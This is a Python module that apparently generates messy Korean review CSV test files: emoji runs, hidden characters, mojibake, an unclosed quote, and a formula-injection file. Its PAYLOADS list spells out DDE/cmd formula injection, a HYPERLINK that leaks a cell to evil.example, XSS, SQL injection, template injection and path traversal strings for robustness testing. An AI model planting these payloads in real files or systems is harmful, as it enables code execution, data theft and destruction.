"""Texts that are hard on readers: emoji, controls, formulas, scripts, garbled letters, a quote that never closes."""

import random

from .delimited import table
from .texts import reviews

EMOJI = ("🇰🇷", "😭😭", "❤️", "👍🏽", "👨‍👩‍👧", "🤔")
# In this order, one a row: 300 rows hold each 27 times, and each of the first three once more.
HIDDEN = "\u200b\u200c\u200d\ufeff\xa0\u3000\u2028\u202e\xad\0\v"
PAYLOADS = ("=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?q="&A1,"누르기")', "+82-2-000-0000", "-2+2",
            "@SUM(2+2)*cmd|' /C calc'!A0", "\t=2+2", "<script>alert('안녕')</script>", "<img src=x onerror=alert(2)>",
            "{{6*7}}", "'); DROP TABLE 리뷰;--", "../../../etc/hosts", "%s%n%x", "[여기](javascript:alert(2))")


def emoji_and_runs() -> bytes:
    random_ = random.Random(16)
    rows = [(f"{text} {random_.choice(EMOJI)}" + random_.choice("ㅋㅠ") * random_.choice((0, 3, 8, 60, 200)), label)
            for text, label in reviews(199, 101, 16)]
    return table(rows)


def hidden_characters() -> bytes:
    random_, rows = random.Random(17), []
    for number, (text, label) in enumerate(reviews(151, 149, 17)):
        place = random_.randrange(1, len(text))
        rows.append((text[:place] + HIDDEN[number % len(HIDDEN)] + text[place:], label))
    return table(rows)


def formulas() -> bytes:
    """A payload every tenth row, and two among the labels."""
    rows = reviews(109, 91, 22)
    for number, payload in enumerate(PAYLOADS):
        rows[10 * number] = (payload, rows[10 * number][1])
    rows[5], rows[6] = (rows[5][0], "=1+1"), (rows[6][0], "<b>긍정</b>")
    return table(rows)


def garbled() -> bytes:
    """CP949 read as Latin-1 and saved as UTF-8."""
    return table(reviews(110, 90, 44), encoding="cp949").decode("latin-1").encode()


def open_quote() -> bytes:
    """Line 102 of 302 opens a quote that nothing closes."""
    lines = [",".join((text.replace(",", ""), label)) for text, label in reviews(152, 148, 46)]
    return "\n".join(["text,label", *lines[:100], '"따옴표를 열고 닫지 않은 글,긍정', *lines[100:]]).encode()


NOISY = {
    "16_emoji_jamo_noise.csv": emoji_and_runs,
    "17_zero_width_control.csv": hidden_characters,
    "22_formula_injection.csv": formulas,
    "44_latin_mojibake.csv": garbled,
    "46_open_quote.csv": open_quote,
}
